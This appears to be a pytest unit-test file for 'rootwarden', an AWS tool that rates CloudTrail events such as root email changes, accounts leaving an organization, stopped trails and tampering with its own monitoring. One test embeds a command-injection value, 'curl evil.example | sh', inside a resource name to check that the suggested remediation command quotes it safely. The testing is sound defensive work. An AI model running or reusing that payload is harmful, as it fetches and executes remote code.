"""What is said of steps before a takeover, of ways out, and of the watch itself touched."""

from datetime import timedelta
from typing import Any

import pytest

from rootwarden.activity.root_activity import Assessment, Finding
from rootwarden.activity.watch import Watch, read_record
from rootwarden.cloudtrail import CloudTrailRecord, Identity
from rootwarden.contract.activities import Activity, Severity
from tests.unit.fakes import NOON
from tests.unit.given import HUB, MANAGEMENT, MEMBER
from tests.unit.sample_events import envelope, record, sample

WATCH = Watch(management_account_id=MANAGEMENT, hub_account_id=HUB)
REFUSED = {"errorCode": "AccessDenied"}
ROOT = {"type": "Root", "arn": f"arn:aws:iam::{MEMBER}:root"}
BY_A_SERVICE = {"userIdentity": ROOT | {"invokedBy": "controltower.amazonaws.com"}}
BY_CLOUDFORMATION = {"type": "AssumedRole", "invokedBy": "cloudformation.amazonaws.com"}

ORGANIZATION_TRAIL = {
    "requestParameters": {"name": "arn:aws:cloudtrail:us-east-1:111122223333:trail/organization"}
}
WITHIN_THE_ACCOUNT = {"eventSource": "account.amazonaws.com", "requestParameters": None}

TABLE = [
    # sample, changed fields, activity, severity
    ("start_primary_email_update", {}, "root_email_update_started", "high"),
    ("start_primary_email_update", REFUSED, "root_email_update_started", "medium"),
    ("accept_primary_email_update", {}, "root_email_update_accepted", "critical"),
    ("accept_primary_email_update", REFUSED, "root_email_update_accepted", "high"),
    ("put_contact_information", {}, "contact_touched", "medium"),
    ("put_contact_information", REFUSED, "contact_touched", "low"),
    ("put_contact_information", {"requestParameters": None}, "contact_touched", "medium"),
    ("sign_in_anomaly", {}, "sign_in_anomaly", "high"),
    ("sign_in_anomaly", {"userIdentity": None}, "sign_in_anomaly", "high"),
    ("sign_in_anomaly", {"userIdentity": {"arn": ROOT["arn"]}}, "sign_in_anomaly", "high"),
    ("sign_in_anomaly_iam_user", {}, None, "info"),
    ("leave_organization_refused", {"errorCode": None, "errorMessage": None}, "account_leaving", "critical"),
    ("leave_organization_by_root", BY_A_SERVICE, "account_leaving", "critical"),
    ("leave_organization_refused", {}, "account_leaving", "high"),
    ("member_accepts_foreign_invitation", {}, "account_leaving", "critical"),
    (
        "member_accepts_foreign_invitation",
        REFUSED | {"responseElements": None},
        "account_leaving",
        "high",
    ),
    # What the record does not describe may have been an invitation.
    ("member_accepts_foreign_invitation", {"responseElements": None}, "account_leaving", "critical"),
    ("member_accepts_foreign_invitation_by_root", {}, "left_organization", "critical"),
    ("member_accepts_foreign_invitation_by_root", REFUSED, "left_organization", "high"),
    ("member_accepts_foreign_invitation_by_root", BY_A_SERVICE, "account_leaving", "critical"),
    # Logged in the management account, which leaves nothing.
    ("accept_handshake", {}, None, "info"),
    ("accept_handshake", {"userIdentity": ROOT}, None, "info"),
    ("accept_handshake_foreign_organization", {}, None, "info"),
    ("accept_handshake_all_features", {}, None, "info"),
    ("accept_handshake_refused", {}, None, "info"),
    ("accept_handshake_transfer_responsibility", {}, None, "info"),
    ("trail_stopped_by_administrator", {}, "trail_touched", "high"),
    ("trail_stopped_by_administrator", REFUSED, "trail_touched", "medium"),
    ("trail_stopped_by_administrator", {"userIdentity": BY_CLOUDFORMATION}, "trail_touched", "high"),
    ("trail_stopped_by_administrator", BY_A_SERVICE, "trail_touched", "high"),
    ("organization_trail_stopped", {}, "trail_touched", "critical"),
    # By CloudTrail's delegated administrator, in that account.
    ("trail_stopped_by_administrator", ORGANIZATION_TRAIL, "trail_touched", "critical"),
    ("organization_trail_stopped", REFUSED, "trail_touched", "high"),
    *(
        ("organization_trail_stopped", {"eventName": name}, "trail_touched", "critical")
        for name in ("DeleteTrail", "UpdateTrail", "PutEventSelectors")
    ),
    (
        "organization_trail_stopped",
        {"eventName": "UpdateTrail", "userIdentity": BY_CLOUDFORMATION},
        "trail_touched",
        "low",
    ),
    ("remove_account_from_organization", {}, "account_removed", "high"),
    ("remove_account_from_organization", REFUSED, "account_removed", "medium"),
    ("close_account", {}, "account_closing", "high"),
    ("close_account", REFUSED, "account_closing", "medium"),
    ("close_account", {"userIdentity": ROOT}, "account_closing", "high"),
    ("close_account", WITHIN_THE_ACCOUNT, "account_closing", "high"),
    ("close_account", WITHIN_THE_ACCOUNT | BY_A_SERVICE, "account_closing", "high"),
    ("put_console_authorization_configuration", {}, "sign_in_guard_changed", "high"),
    ("put_console_authorization_configuration", REFUSED, "sign_in_guard_changed", "medium"),
    ("forwarding_rule_deleted", {}, "watch_taken_down", "critical"),
    ("forwarding_rule_deleted", REFUSED, "watch_change_refused", "high"),
    ("forwarding_rule_deleted", {"userIdentity": ROOT}, "watch_taken_down", "critical"),
    ("forwarding_rule_deleted", {"userIdentity": BY_CLOUDFORMATION}, "watch_taken_down", "critical"),
    ("forwarding_rule_deleted", {"eventName": "EnableRule"}, "watch_changed", "medium"),
    ("forwarding_rule_deleted", {"eventName": "PutRule"}, "watch_changed", "critical"),
    ("forwarding_rule_disabled", {}, "watch_taken_down", "critical"),
    ("forwarding_rule_updated_by_stack_sets", {}, None, "info"),
    ("forwarding_rule_updated_by_stack_sets", {"eventName": "DeleteRule"}, None, "info"),
    ("forwarding_role_policy_deleted", {}, "watch_taken_down", "critical"),
    ("forwarding_role_policy_deleted", {"eventName": "UpdateAssumeRolePolicy"}, "watch_changed", "critical"),
    ("forwarding_role_policy_deleted", {"eventName": "TagRole"}, None, "info"),
    ("default_bus_given_a_key", {}, "watch_changed", "critical"),
    ("default_bus_given_a_key", {"requestParameters": None}, "watch_changed", "low"),
    ("default_bus_given_a_key", {"userIdentity": ROOT}, "watch_changed", "critical"),
    ("default_bus_given_a_key", REFUSED, "watch_change_refused", "high"),
    ("forwarding_queue_purged", {}, "watch_taken_down", "critical"),
    ("stack_instance_deleted", {}, "watch_taken_down", "critical"),
    ("stack_instance_deleted", {"eventName": "UpdateStack"}, "watch_changed", "critical"),
    ("stack_set_updated_by_deployment", {}, "watch_changed", "low"),
    (
        "stack_set_updated_by_deployment",
        {"requestParameters": {"stackSetName": "rootwarden-forwarding-canary"}},
        "watch_changed",
        "low",
    ),
    (
        "stack_set_updated_by_deployment",
        {"eventName": "DeleteStackInstances"},
        "watch_taken_down",
        "critical",
    ),
    ("hub_stack_deployed", {}, "watch_changed", "medium"),
    ("hub_stack_deployed", {"eventName": "DeleteStack"}, "watch_taken_down", "critical"),
    ("hub_bus_policy_changed", {}, "watch_taken_down", "critical"),
    ("hub_source_disabled", {}, "watch_taken_down", "critical"),
    ("disable_stack_sets_access", {}, "watch_taken_down", "critical"),
    ("disable_stack_sets_access", REFUSED, "watch_change_refused", "high"),
    ("deactivate_stack_sets_access", {}, "watch_taken_down", "critical"),
    ("disable_cloudtrail_access", {}, "watch_taken_down", "critical"),
    ("disable_cloudtrail_access", {"userIdentity": ROOT}, "watch_taken_down", "critical"),
    ("disable_cloudtrail_access", REFUSED, "watch_change_refused", "high"),
    ("deregister_stack_sets_administrator", {}, "watch_taken_down", "critical"),
    ("detach_deny_root_policy", {}, "watch_taken_down", "critical"),
    ("detach_deny_root_policy", {"eventName": "UpdatePolicy"}, "watch_taken_down", "critical"),
    ("detach_deny_root_policy", {"eventName": "DisablePolicyType"}, "watch_taken_down", "critical"),
    (
        "detach_deny_root_policy",
        {"eventName": "UpdatePolicy", "userIdentity": BY_CLOUDFORMATION},
        "watch_changed",
        "low",
    ),
]


def found_in(event: dict[str, Any]) -> Finding:
    found = WATCH.finding(record(event))
    assert found is not None
    return found


def judge(name: str, **changed: object) -> Finding:
    return found_in(sample(name, **changed))


def is_left(name: str, **changed: object) -> bool:
    return WATCH.finding(record(sample(name, **changed))) is None


@pytest.mark.parametrize(("name", "changed", "activity", "severity"), TABLE)
def test_each_act_is_judged(name: str, changed: dict[str, Any], activity: str | None, severity: str) -> None:
    found = judge(name, **changed)

    assert (found.activity, found.assessment.severity) == (activity, severity)
    if changed is REFUSED:
        assert found.assessment.reason.endswith("and AWS refused it (AccessDenied)")
        assert found.put_back is None


@pytest.mark.parametrize(
    "name",
    [
        "forwarding_rule_deleted_other_team",
        "hub_rule_put_by_vending",
        "disable_trusted_access_other_service",
        "register_delegated_administrator_other_service",
        "root_api_long_term_key",
        "root_trail_stopped",
        "leave_organization_by_root",
    ],
)
def test_what_is_not_of_the_watch_is_left_to_others(name: str) -> None:
    assert is_left(name)


@pytest.mark.parametrize("name", ["accept_handshake", "accept_handshake_all_features"])
def test_a_members_own_record_of_our_handshake_alerts_nobody(name: str) -> None:
    found = found_in(sample(name) | {"account": MEMBER})

    assert found.activity is None


@pytest.mark.parametrize("name", ["accept_handshake_all_features", "accept_handshake_refused"])
def test_a_handshake_that_root_accepts_and_leaves_nothing_by_is_an_act_of_root(name: str) -> None:
    assert is_left(name, userIdentity=ROOT)


def test_of_root_nothing_is_silenced_and_no_policy_is_taken_for_a_protecting_one() -> None:
    for name in ("hub_stack_deployed", "stack_set_updated_by_deployment", "detach_deny_root_policy"):
        assert is_left(name, userIdentity=ROOT)
    assert is_left("forwarding_role_policy_deleted", userIdentity=ROOT, eventName="TagRole")
    assert is_left("forwarding_queue_purged", userIdentity=ROOT, eventCategory="Data")
    assert is_left("close_account", userIdentity=ROOT, **WITHIN_THE_ACCOUNT)
    assert is_left("put_contact_information", userIdentity=ROOT)


@pytest.mark.parametrize(
    ("name", "account"), [("hub_bus_policy_changed", MEMBER), ("hub_stack_deployed", MANAGEMENT)]
)
def test_a_resource_called_like_ours_elsewhere_raises_no_alarm(name: str, account: str) -> None:
    event = sample(name) | {"account": account}

    found = found_in(event)

    assert found.activity is None


@pytest.mark.parametrize(
    "changed",
    [
        # The name without the service, the service without the name, and a role of another account.
        {"invokedBy": None},
        {"sessionContext": {"sessionIssuer": {"arn": f"arn:aws:iam::{MEMBER}:role/Admin"}}},
        {"sessionContext": {"sessionIssuer": {"arn": f"arn:aws:iam::{HUB}:role/stacksets-exec-0a1b"}}},
        # A path of that name, which anybody may give a role of any name; and no name at all.
        {"sessionContext": {"sessionIssuer": {"arn": f"arn:aws:iam::{MEMBER}:role/stacksets-exec-0a1b/x"}}},
        {"sessionContext": {"sessionIssuer": {"arn": f"arn:aws:iam::{MEMBER}:role/x/stacksets-exec-0a1b"}}},
        {"sessionContext": {"sessionIssuer": {"arn": f"arn:aws:iam::{MEMBER}:role/stacksets-exec-"}}},
    ],
)
def test_who_is_only_called_like_stack_sets_is_not_stack_sets(changed: dict[str, Any]) -> None:
    event = sample("forwarding_rule_updated_by_stack_sets", sourceIPAddress="198.51.100.7")
    event["detail"]["userIdentity"].update(changed)

    found = found_in(event)

    assert (found.activity, found.assessment.severity) == ("watch_changed", "critical")


TEMPLATES_POLICY = {"policyName": "ForwardingRoleDefaultPolicyCADD92CF"}
BY_STACK_SETS = [
    # service, call, what it asks besides the role, activity
    ("iam", "CreateRole", {}, None),
    ("iam", "DeleteRole", {}, None),
    ("iam", "UpdateAssumeRolePolicy", {}, None),
    ("iam", "PutRolePolicy", TEMPLATES_POLICY, None),
    ("iam", "DeleteRolePolicy", TEMPLATES_POLICY, None),
    ("iam", "PutRolePolicy", {"policyName": "deny-all"}, "watch_changed"),
    ("iam", "PutRolePolicy", {}, "watch_changed"),
    ("iam", "DeleteRolePolicy", {}, "watch_taken_down"),
    ("iam", "AttachRolePolicy", {"policyArn": "arn:aws:iam::aws:policy/AWSDenyAll"}, "watch_changed"),
    ("iam", "PutRolePermissionsBoundary", {}, "watch_changed"),
    ("iam", "AttachRolePolicy", {"roleName": "stacksets-exec-0a1b2c3d"}, "watch_changed"),
    ("iam", "CreateRole", {"roleName": "stacksets-exec-0a1b2c3d"}, "watch_changed"),
    ("events", "UpdateEventBus", {"name": "default", "kmsKeyIdentifier": "a key"}, "watch_changed"),
    ("sqs", "PurgeQueue", {"queueUrl": "rootwarden-undelivered"}, "watch_taken_down"),
    ("sqs", "SetQueueAttributes", {"queueUrl": "rootwarden-undelivered"}, None),
    ("cloudformation", "UpdateStack", {"stackName": "StackSet-rootwarden-forwarding-1"}, None),
]


@pytest.mark.parametrize(("service", "event", "parameters", "activity"), BY_STACK_SETS)
def test_of_what_stack_sets_does_only_what_our_template_asks_for_is_silent(
    service: str, event: str, parameters: dict[str, str], activity: str | None
) -> None:
    role = {"roleName": "StackSet-rootwarden-forw-ForwardingRole-1ABCDEFGHIJKL"} if service == "iam" else {}

    found = judge(
        "forwarding_rule_updated_by_stack_sets",
        eventSource=f"{service}.amazonaws.com",
        eventName=event,
        requestParameters=role | parameters,
    )

    assert found.activity == activity
    assert activity is None or found.assessment.severity == "critical"


def test_what_another_stack_set_did_is_not_said_to_be_by_hand() -> None:
    found = judge(
        "forwarding_rule_updated_by_stack_sets",
        eventSource="iam.amazonaws.com",
        eventName="AttachRolePolicy",
        requestParameters={"roleName": "StackSet-rootwarden-x"},
    )

    how = "by a StackSet, but not as rootwarden's own changes it"
    assert found.assessment.reason == f"the watch's own StackSet-rootwarden-x was changed {how}"


def test_the_service_linked_role_is_stack_sets_by_itself() -> None:
    service = "member.org.stacksets.cloudformation.amazonaws.com"
    role = f"role/aws-service-role/{service}/AWSServiceRoleForCloudFormationStackSetsOrgMember"
    identity = {
        "type": "AssumedRole",
        "sessionContext": {"sessionIssuer": {"arn": f"arn:aws:iam::{MEMBER}:{role}"}},
    }
    parameters = {"roleName": "stacksets-exec-0a1b2c3d"}

    by_service, by_person = (
        judge(
            "forwarding_role_policy_deleted", eventName="CreateRole", requestParameters=parameters, **changed
        )
        for changed in ({"userIdentity": identity}, {})
    )

    assert (by_service.activity, by_person.activity) == (None, "watch_changed")
    attached = judge(
        "forwarding_role_policy_deleted",
        eventName="AttachRolePolicy",
        requestParameters=parameters,
        userIdentity=identity,
    )
    assert attached.activity is None


def test_a_rule_put_as_disabled_is_taken_down_even_by_a_deployment() -> None:
    event = sample("forwarding_rule_deleted", eventName="PutRule", userIdentity=BY_CLOUDFORMATION)
    event["detail"]["requestParameters"] = {
        "name": "RootWardenOrganization-ForwardingRule-1",
        "state": "DISABLED",
    }

    found = found_in(event | {"account": MANAGEMENT})

    assert (found.activity, found.assessment.severity) == ("watch_taken_down", "critical")


@pytest.mark.parametrize(
    ("name", "parameters", "account", "target"),
    [
        ("start_primary_email_update", {"accountId": MEMBER}, MEMBER, None),
        ("put_contact_information", {"accountId": MEMBER}, MEMBER, None),
        ("remove_account_from_organization", {"accountId": MEMBER}, MEMBER, None),
        ("close_account", {"accountId": MEMBER}, MEMBER, None),
        # What is no account's id is not taken for one.
        ("close_account", {"accountId": f"{MEMBER}0"}, None, None),
        ("close_account", None, None, None),
        ("put_console_authorization_configuration", {"targetId": "o-aa111bb222"}, None, "o-aa111bb222"),
        ("organization_trail_stopped", {"name": "org-trail"}, None, "org-trail"),
        ("organization_trail_stopped", {"trailName": "org-trail"}, None, "org-trail"),
    ],
)
def test_the_account_and_the_target_are_those_named(
    name: str, parameters: dict[str, str] | None, account: str | None, target: str | None
) -> None:
    found = judge(name, requestParameters=parameters)

    assert (found.account_id, found.target, found.put_back) == (account, target, None)


LEAVES_THE_HUB = [
    # sample, changed fields, account of the record, severity
    ("close_account", {"requestParameters": {"accountId": HUB}}, MANAGEMENT, "critical"),
    ("close_account", WITHIN_THE_ACCOUNT, HUB, "critical"),
    ("remove_account_from_organization", {"requestParameters": {"accountId": HUB}}, MANAGEMENT, "critical"),
    ("close_account", {"requestParameters": {"accountId": HUB}} | REFUSED, MANAGEMENT, "medium"),
    # AWS lets no member do so; its administrators may say it of any account.
    ("close_account", {"requestParameters": {"accountId": HUB}}, MEMBER, "high"),
    ("close_account", {"requestParameters": {"accountId": MEMBER}}, MANAGEMENT, "high"),
]


@pytest.mark.parametrize(("name", "changed", "account", "severity"), LEAVES_THE_HUB)
def test_the_account_that_rootwarden_runs_in_is_no_account_like_others(
    name: str, changed: dict[str, Any], account: str, severity: str
) -> None:
    found = WATCH.finding(record(sample(name, **changed) | {"account": account}))

    assert found is not None
    assert found.assessment.severity == severity
    said = ("it is the account rootwarden runs in",) if severity == "critical" else ()
    assert found.assessment.circumstances == said
    assert "the account" in found.assessment.reason


def test_a_name_cannot_become_a_command() -> None:
    name = "StackSet-rootwarden-x; curl evil.example | sh"

    found = judge("forwarding_rule_disabled", requestParameters={"name": name})

    assert found.put_back == f"aws events enable-rule --region us-east-1 --name '{name}'"


SOMEBODYS = "AWS found a sign-in unusual and does not say whose; it may be root's"
ROOTS = "AWS found a sign-in of the root user unusual"


@pytest.mark.parametrize(
    ("identity", "said"),
    [
        ({"type": "Root"}, ROOTS),
        # Without a type, the ARN says it.
        ({"arn": ROOT["arn"]}, ROOTS),
        ({}, SOMEBODYS),
        ({"arn": f"arn:aws:iam::{MEMBER}:user/anna"}, SOMEBODYS),
        ({"arn": f"arn:aws:sts::{MEMBER}:root"}, SOMEBODYS),
    ],
)
def test_an_unusual_sign_in_is_roots_or_may_be(identity: dict[str, Any], said: str) -> None:
    expected = Assessment(Severity.HIGH, said)

    found = record(sample("sign_in_anomaly", userIdentity=identity))

    assert WATCH.finding(found) == Finding(activity=Activity.SIGN_IN_ANOMALY, assessment=expected)
    assert (found.identity.kind, found.identity.is_root) == (
        ("Root", True) if said == ROOTS else ("Unknown", False)
    )


def test_an_unusual_sign_in_of_a_user_is_no_matter_of_root_whatever_the_arn() -> None:
    found = judge("sign_in_anomaly", userIdentity={"type": "IAMUser", "arn": ROOT["arn"]})

    reason = "the sign-in is one of type IAMUser, not of root"
    assert found == Finding(activity=None, assessment=Assessment(Severity.INFO, reason))


def test_what_an_anomaly_alert_says_is_read_as_a_record() -> None:
    origin = {"sourceIPAddress": "198.51.100.7", "userAgent": "Mozilla/5.0"}
    full = envelope(sample("sign_in_anomaly", **origin, awsRegion="eu-west-1"))
    bare = envelope(sample("sign_in_anomaly", eventID=None, awsRegion=None))

    read = read_record(full)

    assert read == CloudTrailRecord(
        event_id="4e13bafb-fb05-5754-921e-cc079fbb40b3",
        event_name="Sign-in Anomaly Alert",
        event_source="signin.amazonaws.com",
        event_type=None,
        time=NOON + timedelta(minutes=45),
        delivered_at=NOON + timedelta(minutes=45),
        region="eu-west-1",
        account_id=MEMBER,
        identity=Identity.read(full.detail),
        source_ip="198.51.100.7",
        user_agent="Mozilla/5.0",
        error_code=None,
        error_message=None,
        read_only=False,
        addendum_reason=None,
        corrects=None,
        detail=full.detail,
    )
    assert (read_record(bare).event_id, read_record(bare).region) == (bare.event_id, "us-east-1")
